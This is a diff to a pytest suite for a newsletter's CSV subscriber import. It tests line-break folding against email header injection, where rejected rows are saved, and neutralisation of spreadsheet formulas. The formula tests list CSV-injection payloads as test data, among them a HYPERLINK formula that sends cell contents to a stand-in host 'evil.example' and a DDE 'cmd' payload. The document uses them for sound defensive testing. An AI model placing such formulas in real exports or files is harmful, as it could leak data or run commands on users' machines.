@@ -4,15 +4,27 @@ rules, dry runs and atomicity. Each case is a small CSV written here."""
 from __future__ import annotations
 
 import csv
+import io
 from pathlib import Path
 
 import pytest
 from sqlalchemy import func, select
 
 from newsletter import subscribers as subs
+from newsletter.csvsafe import SafeWriter, neutralise, restore
 from newsletter.errors import ImportFileError, ListNotFound
 from newsletter.store import schema
 from newsletter.subscriber_file import SubscriberFile
+
+
+@pytest.fixture(autouse=True)
+def _elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """The working folder is not the folder the CSV files are written to, so a test sees
+    where the rejected rows go (the current folder, never beside the input)."""
+    here = tmp_path / "here"
+    here.mkdir()
+    monkeypatch.chdir(here)
+    return here
 
 
 @pytest.fixture
@@ -131,21 +143,46 @@ def test_utf8_with_a_bom_and_crlf_line_ends(store, csvfile):
     assert _members(store) == {"ann@example.com": ("Åse Ødegård", "active", {})}
 
 
-def test_quoted_fields_with_newlines_are_one_row(store, csvfile):
+def test_quoted_fields_with_newlines_are_one_row_folded_onto_one_line(store, csvfile):
     path = csvfile(
         'email,name,notes\n'
         'ann@example.com,Ann,"met at the fair\r\nwants the pricing issue"\n'
         'bob@example.com,Bob,\n'
-        '"cid@example.com","Cid\nEvil",x\n'
+        '"cid@example.com","Cid\nEvil \x0b Bcc: x@example.org",x\n'
+        'dan@example.com,Dan,after\n'
     )
     summary = subs.import_csv(store, path)
-    assert _counts(summary) == (2, 0, 0, 0, 1)
-    assert _members(store)["ann@example.com"][2] == {
-        "notes": "met at the fair\r\nwants the pricing issue"
+    assert _counts(summary) == (4, 0, 0, 0, 0)
+    members = _members(store)
+    assert members["ann@example.com"][2] == {"notes": "met at the fair wants the pricing issue"}
+    assert members["cid@example.com"][0] == "Cid Evil Bcc: x@example.org"  # one header line
+    assert members["dan@example.com"] == ("Dan", "active", {"notes": "after"})
+
+
+def test_a_mailchimp_name_with_a_quoted_line_break_keeps_the_reader(store, csvfile):
+    # Mailchimp writes a name edited with Alt+Enter in a spreadsheet as a quoted CRLF.
+    path = csvfile(
+        "Email Address,First Name,Last Name,Address\r\n"
+        '"ann@example.com","Ann\r\nMarie","Berg\u2028","Storgata 1\r\n0155 Oslo"\r\n'
+        '"bob@example.com","Bob\t\x07",,\r\n'
+    )
+    summary = subs.import_csv(store, path)
+    assert _counts(summary) == (2, 0, 0, 0, 0) and summary.rejected_path is None
+    assert _members(store) == {
+        "ann@example.com": (
+            "Ann Marie Berg",
+            "active",
+            {"first_name": "Ann Marie", "last_name": "Berg", "Address": "Storgata 1 0155 Oslo"},
+        ),
+        "bob@example.com": ("Bob", "active", {"first_name": "Bob"}),
     }
-    (rejection,) = summary.rejections
-    assert rejection.row == 4  # spreadsheet rows: the header is row 1
-    assert "line break" in rejection.reason
+
+
+def test_a_name_that_is_still_unfit_for_a_header_after_folding_is_rejected(store, csvfile):
+    path = csvfile("email,name\nann@example.com,Ann\nbob@example.com," + "B" * 201 + "\n")
+    summary = subs.import_csv(store, path)
+    assert _counts(summary) == (1, 0, 0, 0, 1)
+    assert "longer than 200 characters" in summary.rejections[0].reason
 
 
 def test_a_file_without_a_header(store, csvfile):
@@ -199,7 +236,7 @@ def test_invalid_rows_are_reported_and_written_aside_while_valid_rows_go_in(stor
         (4, "no email address"),
         (5, "unknown status 'sleeping'; use active, pending, unsubscribed, bounced or complained"),
     ]
-    assert summary.rejected_path == path.with_name("readers.rejected.csv")
+    assert summary.rejected_path == Path.cwd() / "readers.rejected.csv"
     with summary.rejected_path.open(encoding="utf-8", newline="") as f:
         rows = list(csv.reader(f))
     assert rows[0] == ["rejected_row", "rejected_reason", "email", "name", "status"]
@@ -220,11 +257,113 @@ def test_a_fixed_rejected_file_imports_cleanly(store, csvfile, tmp_path):
 def test_a_stale_rejected_file_is_removed_when_nothing_is_rejected(store, csvfile):
     path = csvfile("email\nann@\n")
     assert subs.import_csv(store, path).rejected == 1
-    stale = path.with_name("readers.rejected.csv")
+    stale = Path.cwd() / "readers.rejected.csv"
     assert stale.exists()
     csvfile("email\nann@example.com\n")
     assert subs.import_csv(store, path).rejected_path is None
     assert not stale.exists()
+
+
+def test_rejected_rows_go_to_the_current_folder_not_beside_a_read_only_input(
+    store, tmp_path, _elsewhere
+):
+    theirs = tmp_path / "theirs"
+    theirs.mkdir()
+    path = theirs / "readers.csv"
+    path.write_text("email,name\nann@example.com,Ann\nbob@,Bob\n", encoding="utf-8")
+    theirs.chmod(0o555)
+    try:
+        summary = subs.import_csv(store, path)
+    finally:
+        theirs.chmod(0o755)
+    assert _counts(summary) == (1, 0, 0, 0, 1)
+    assert summary.rejected_path == _elsewhere / "readers.rejected.csv"
+    assert summary.rejected_path.read_text(encoding="utf-8").splitlines()[1].startswith('"3",')
+    assert sorted(p.name for p in theirs.iterdir()) == ["readers.csv"]
+
+
+def test_rejected_rows_go_to_the_file_named(store, csvfile, tmp_path):
+    path = csvfile("email\nann@\n")
+    named = tmp_path / "fix-me.csv"
+    summary = subs.import_csv(store, path, rejects=named)
+    assert summary.rejected_path == named and named.exists()
+    assert not (Path.cwd() / "readers.rejected.csv").exists()
+    with pytest.raises(ImportFileError, match="is the file being imported"):
+        subs.import_csv(store, path, rejects=path)
+    assert path.read_text(encoding="utf-8") == "email\nann@\n"
+
+
+def test_an_unwritable_place_for_the_rejected_rows_is_one_error_and_nothing_changes(
+    store, csvfile, tmp_path
+):
+    path = csvfile("email\nann@example.com\nbob@\n")
+    before = _table_sizes(store)
+    with pytest.raises(ImportFileError) as caught:
+        subs.import_csv(store, path, rejects=tmp_path / "no-such-folder" / "rejects.csv")
+    message = str(caught.value)
+    assert "cannot write the rejected rows there" in message and "--rejects FILE" in message
+    assert "nothing was imported" in message and "\n" not in message
+    assert _table_sizes(store) == before
+
+
+# -- spreadsheet formulas (CSV injection) -----------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "  =1+2",
+    "Ann;=1+2",
+    "Ann, @SUM(1)",
+    'Ann"=1+2',
+    "Ann'-1",
+    "\tTabbed",
+    "\r=1",
+    "line\n+1",
+    "'=already quoted",
+]
+HARMLESS = ["Ann Berg", "Anne-Marie", "ann+news@example.com", "'Tis me", "2025-01-03", "", "1-2"]
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_a_cell_a_spreadsheet_would_run_gets_a_quote_in_front(value):
+    assert neutralise(value) == "'" + value
+    assert restore(neutralise(value)) == value
+
+
+@pytest.mark.parametrize("value", HARMLESS)
+def test_a_harmless_cell_is_written_as_it_is(value):
+    assert neutralise(value) == value
+    assert restore(value) == value
+
+
+def test_every_cell_is_quoted_and_formulas_are_neutralised():
+    out = io.StringIO()
+    SafeWriter(out, lineterminator="\n").writerow(["=1+2", "Ann", 3, None, "a;=b"])
+    assert out.getvalue() == '"\'=1+2","Ann","3","","\'a;=b"\n'
+
+
+def test_rejected_rows_are_neutralised_and_import_back_as_they_were(store, csvfile):
+    path = csvfile(
+        "email,name,city\n"
+        'bad@,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",@SUM(1+1)\n'
+        "-ann@example.com,+cmd|calc,Oslo\n"
+    )
+    summary = subs.import_csv(store, path)
+    assert _counts(summary) == (1, 0, 0, 0, 1)
+    text = summary.rejected_path.read_text(encoding="utf-8")
+    assert text.splitlines()[1] == (
+        '"2","\'bad@\' is not a valid email address: There must be something after the @-sign.",'
+        '"bad@","\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","\'@SUM(1+1)"'
+    )
+    fixed = csvfile(text.replace('"bad@"', '"bad@example.com"'), "fixed.csv")
+    subs.import_csv(store, fixed)
+    members = _members(store)
+    assert members["bad@example.com"] == (
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")', "active", {"city": "@SUM(1+1)"}
+    )
+    assert members["-ann@example.com"] == ("+cmd|calc", "active", {"city": "Oslo"})
 
 
 # -- duplicates and updates -------------------------------------------------------------------
@@ -371,7 +510,7 @@ def test_a_dry_run_reports_the_same_summary_and_changes_nothing(store, csvfile):
     before = _table_sizes(store)
     dry = subs.import_csv(store, path, dry_run=True)
     assert _table_sizes(store) == before
-    assert not path.with_name("readers.rejected.csv").exists()
+    assert not (Path.cwd() / "readers.rejected.csv").exists()
     assert dry.dry_run and dry.rejected_path is None
     real = subs.import_csv(store, path)
     assert _counts(dry) == _counts(real) == (1, 0, 0, 1, 1)
@@ -404,7 +543,7 @@ def test_an_import_interrupted_halfway_changes_nothing(store, csvfile):
     with pytest.raises(KeyboardInterrupt):
         subs.import_csv(store, path, chunk_size=10, progress=interrupt)
     assert _table_sizes(store) == before
-    assert not path.with_name("readers.rejected.csv").exists()
+    assert not (Path.cwd() / "readers.rejected.csv").exists()
 
 
 def test_progress_reports_bytes_read_up_to_the_file_size(store, csvfile):
@@ -474,3 +613,4 @@ def test_the_sample_reader_list_imports_cleanly(store):
     assert all(e.rsplit("@", 1)[1] in ("example.com", "example.org", "example.net") for e in members)
     assert any(not name.isascii() for name, _, _ in members.values())
     assert not sample.with_name("readers.rejected.csv").exists()
+    assert not (Path.cwd() / "readers.rejected.csv").exists()
